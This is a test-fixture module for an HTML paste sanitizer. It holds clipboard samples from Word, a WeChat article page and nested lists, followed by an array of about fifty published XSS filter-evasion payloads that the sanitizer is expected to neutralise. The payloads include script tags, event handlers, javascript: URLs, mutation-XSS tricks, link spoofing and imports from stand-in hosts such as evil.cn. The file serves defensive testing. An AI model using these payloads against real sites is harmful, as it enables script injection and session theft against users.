/* Clipboards as programs fill them; shortened, markup as it came. */

/** Word 365: a heading that Word numbers, an alignment, lists as paragraphs, a table, a picture that is only a name. */
export const WORD = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head><meta name=Generator content="Microsoft Word 15"><style><!-- p.MsoNormal {margin:0cm; font-family:宋体} --></style>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]--></head>
<body lang=ZH-CN style='tab-interval:21.0pt'><!--StartFragment-->
<p class=MsoTitle align=center style='text-align:center'><b><span style='font-family:方正小标宋'>关于开展主题党日的
通知</span></b></p>
<h1 style='mso-list:l2 level1 lfo3'><![if !supportLists]><span style='mso-list:Ignore'>一、</span><![endif]><b>总体要求<o:p></o:p></b></h1>
<p class=MsoNormal style='text-indent:32.0pt'><span style='font-size:16.0pt'>\u3000\u3000各党支部要<b><span lang=EN-US>认真</span>组织</b>，<u>按时</u>
完成。<span lang=EN-US><o:p>&nbsp;</o:p></span></span></p>
<p class=MsoNormal><span lang=EN-US><o:p>&nbsp;</o:p></span></p>
<p class=MsoListParagraph style='margin-left:21.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Wingdings;mso-list:Ignore'>l<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span><![endif]>学习文件</p>
<p class=MsoListParagraph style='margin-left:42.0pt;mso-list:l0 level2 lfo1'><![if !supportLists]><span style='font-family:Wingdings;mso-list:Ignore'>n<span style='font:7.0pt "Times New Roman"'>&nbsp; </span></span><![endif]>原文</p>
<p class=MsoListParagraph style='margin-left:21.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Wingdings;mso-list:Ignore'>l<span>&nbsp;</span></span><![endif]>交流研讨</p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><![if !supportLists]><span lang=EN-US style='mso-list:Ignore'>1.<span>&nbsp;&nbsp;</span></span><![endif]>报名</p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><![if !supportLists]><span lang=EN-US style='mso-list:Ignore'>2.<span>&nbsp;&nbsp;</span></span><![endif]>签到</p>
<p class=MsoListParagraph style='mso-list:l4 level1 lfo5'><![if !supportLists]><span style='mso-list:Ignore'>（一）</span><![endif]>会前准备</p>
<table class=MsoTableGrid border=1><tr style='mso-yfti-irow:0'><td width=189 colspan=2 valign=top><p class=MsoNormal align=center><b>安排</b></p></td></tr>
<tr><td><p class=MsoNormal>时间</p></td><td><p class=MsoNormal>11月24日</p><p class=MsoNormal>上午</p></td></tr>
<![if !supportMisalignedColumns]><tr height=0><td width=95></td><td width=95></td></tr><![endif]></table>
<p class=MsoNormal><img width=300 height=200 src="file:///C:/Users/li/AppData/Local/Temp/msohtmlclip1/01/clip_image001.png"></p>
<p class=MsoNormal align=right style='text-align:right'>鼓东街道党工委<br>2026年11月20日</p>
<!--EndFragment--></body></html>`

/** 公众号: an article copied from the page that is still hidden while it loads. */
export const OFFICIAL_ACCOUNT = `<meta charset="utf-8"><div class="rich_media_content" id="js_content" style="visibility: hidden; opacity: 0;">
<section data-tools="135编辑器" style="max-width:100%;box-sizing:border-box;"><section style="text-align:center;margin:10px auto;"><section style="display:inline-block;border-bottom:2px solid #c00;"><p style="margin:0;"><span style="color:rgb(192,0,0);font-size:20px;"><strong>红色足迹</strong></span></p></section></section></section>
<p style="line-height:2em;text-indent:2em;"><span style="font-size:15px;letter-spacing:1px;">十一月二十四日，<em style="font-style:normal;">中山社区</em>党支部走进<span style="font-weight: 700;">林觉民故居</span>。</span></p>
<p><br></p><p style="text-align:center"><img class="rich_pages wxw-img" data-src="https://mmbiz.qpic.cn/mmbiz_png/abc/640?wx_fmt=png" data-w="1080" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="></p>
<p><img src="https://mmbiz.qpic.cn/a" width="1" height="1"></p>
<section><p>▪ 参观展厅</p><p>▪ 重温誓词</p></section>
<blockquote><p>少年强则国强。</p></blockquote>
<p><a href="http://mp.weixin.qq.com/s/abc" style="text-decoration:underline">上一期</a>\u3000<a href="https://mp.weixin.qq.com/s/def">全文</a></p>
<iframe class="video_iframe" data-src="https://v.qq.com/iframe/preview.html?vid=1"></iframe>
<mp-common-profile class="js_uneditable" data-nickname="鼓楼先锋"><section>点击关注</section></mp-common-profile>
<section style="display:none"><p>看不见的字</p></section>
<table><tbody><tr><td style="padding:10px"><p>一格的框只是装饰</p></td></tr></tbody></table>
<svg><text>画</text></svg>第一段<br><br>第二段</div><script>document.write('x')</script>`

/** WPS and browsers: real lists, nested in the item and wrongly beside it. */
export const LISTS = `<ol><li>甲<ul><li>甲一<ol><li>甲一①<ul><li>更深</li></ul></li></ol></li></ul></li><li><p>乙</p><p>乙的第二行</p></li><ul><li>乙一</li></ul></ol>`

/** Published ways of smuggling (OWASP XSS filter evasion, html5sec, DOMPurify's tests): none may come out as more than words. */
export const SMUGGLED = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>`,
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">`,
  `<img src="data:text/html;base64,PHNjcmlwdD4=">`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>`,
  `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="jAvAsCrIpT&colon;alert(1)">x</a>`,
  `<a href=" &#14;  javascript:alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="https://a.cn/\u202egpj.exe">x</a>`,
  `<a href="https://a.cn@evil.cn/">x</a>`,
  `<a href="https://a.cn/&quot;onmouseover=alert(1)">x</a>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>`,
  `<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
  `<body onload=alert(1)>`,
  `<div style="background:url(javascript:alert(1))">x</div>`,
  `<div style="width:expression(alert(1))">x</div>`,
  `<div style="position:fixed;inset:0">x</div>`,
  `<style>@import 'https://evil.cn/x.css';</style>`,
  `<link rel=stylesheet href=https://evil.cn/x.css>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="javascript:alert(1)//">`,
  `<input autofocus onfocus=alert(1)>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<video><source onerror=alert(1)></video>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<template><script>alert(1)</script></template>`,
  `<table background="javascript:alert(1)"><td background="javascript:alert(1)">x<td>y</table>`,
  `<td colspan=100000000 rowspan=99999>x</td>`,
  `<table><td colspan=100000000 rowspan=99999>x<td>y</table>`,
  `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<p>\u0000\u0008\u202e\u2066\ud800x</p>`,
  `<xmp><p title="</xmp><svg/onload=alert(1)>">`,
  `<plaintext><script>alert(1)`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<figure class="prose-picture" data-file="7"></figure>`,
  `<li data-level="99">x</li>`,
  `<custom-element onclick=alert(1) is="x">x</custom-element>`,
  `<p is="script" onpointerenter=alert(1) contenteditable>x</p>`,
]
